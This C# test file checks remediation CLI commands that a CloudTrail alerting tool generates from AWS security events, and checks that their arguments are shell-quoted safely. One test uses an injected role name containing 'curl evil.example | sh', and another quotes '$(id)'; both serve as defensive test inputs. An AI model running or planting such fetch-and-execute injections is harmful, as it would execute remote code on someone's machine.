using CloudTrailNotifier.Describing;

namespace CloudTrailNotifier.Tests.Describing;

/// <summary>The "What to do" commands: filled in from the event, and quoted so no value becomes more than one argument.</summary>
public sealed class NextStepsTests
{
    [Fact]
    public void Detaching_names_the_user_and_policy_of_the_event()
    {
        var steps = SeverityTableTests.Assess("iam.amazonaws.com", "AttachUserPolicy", """{"userName":"bob","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}""").NextSteps;

        var detach = Assert.Single(steps, s => s.Kind == NextStepKind.DetachPolicy);
        Assert.Equal("aws iam detach-user-policy --user-name bob --policy-arn arn:aws:iam::aws:policy/AdministratorAccess", detach.Command);
        Assert.Contains(steps, s => s.Kind == NextStepKind.DeactivateCallerKey && s.Command.Contains("--access-key-id AKIAEXAMPLE", StringComparison.Ordinal));
    }

    [Fact]
    public void A_hostile_value_is_single_quoted_and_cannot_end_the_quote()
    {
        var steps = SeverityTableTests.Assess("iam.amazonaws.com", "AttachRolePolicy", """{"roleName":"x'; curl evil.example | sh; echo '","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}""").NextSteps;

        var detach = Assert.Single(steps, s => s.Kind == NextStepKind.DetachPolicy);
        Assert.Equal("aws iam detach-role-policy --role-name 'x'\\''; curl evil.example | sh; echo '\\''' --policy-arn arn:aws:iam::aws:policy/AdministratorAccess", detach.Command);
    }

    [Fact]
    public void A_new_key_for_another_user_is_deactivated_by_its_id()
    {
        var steps = SeverityTableTests.Assess("iam.amazonaws.com", "CreateAccessKey", """{"userName":"ci"}""", response: """{"accessKey":{"userName":"ci","accessKeyId":"AKIANEWKEY","status":"Active"}}""").NextSteps;

        Assert.Contains(steps, s => s.Command == "aws iam update-access-key --user-name ci --access-key-id AKIANEWKEY --status Inactive");
    }

    [Fact]
    public void Unsharing_removes_exactly_the_accounts_that_were_added()
    {
        var snapshot = SeverityTableTests.Assess("ec2.amazonaws.com", "ModifySnapshotAttribute", """{"snapshotId":"snap-1","createVolumePermission":{"add":{"items":[{"userId":"222222222222"},{"group":"all"}]}}}""").NextSteps;
        var image = SeverityTableTests.Assess("ec2.amazonaws.com", "ModifyImageAttribute", """{"imageId":"ami-1","launchPermission":{"add":{"items":[{"userId":"222222222222"}]}}}""").NextSteps;
        var db = SeverityTableTests.Assess("rds.amazonaws.com", "ModifyDBSnapshotAttribute", """{"dBSnapshotIdentifier":"final","attributeName":"restore","valuesToAdd":["222222222222","333333333333"]}""").NextSteps;

        Assert.Contains(snapshot, s => s.Command == "aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type remove --group-names all --user-ids 222222222222 --region us-east-1");
        Assert.Contains(image, s => s.Command == "aws ec2 modify-image-attribute --image-id ami-1 --launch-permission 'Remove=[{UserId=222222222222}]' --region us-east-1");
        Assert.Contains(db, s => s.Command == "aws rds modify-db-snapshot-attribute --db-snapshot-identifier final --attribute-name restore --values-to-remove 222222222222 333333333333 --region us-east-1");
    }

    [Fact]
    public void Stopped_logging_is_restarted_on_the_same_trail() =>
        Assert.Contains(
            SeverityTableTests.Assess("cloudtrail.amazonaws.com", "StopLogging", """{"name":"arn:aws:cloudtrail:us-east-1:111111111111:trail/main"}""").NextSteps,
            s => s.Command == "aws cloudtrail start-logging --name arn:aws:cloudtrail:us-east-1:111111111111:trail/main --region us-east-1");

    [Fact]
    public void Notices_get_no_commands() =>
        Assert.Empty(SeverityTableTests.Assess("iam.amazonaws.com", "CreateUser", """{"userName":"x"}""").NextSteps);

    [Theory]
    [InlineData("plain-name_1.2/x:y@z", "plain-name_1.2/x:y@z")]
    [InlineData("two words", "'two words'")]
    [InlineData("", "''")]
    [InlineData("$(id)", "'$(id)'")]
    [InlineData("it's", "'it'\\''s'")]
    public void Shell_quoting(string value, string expected) => Assert.Equal(expected, ShellQuote.Arg(value));
}
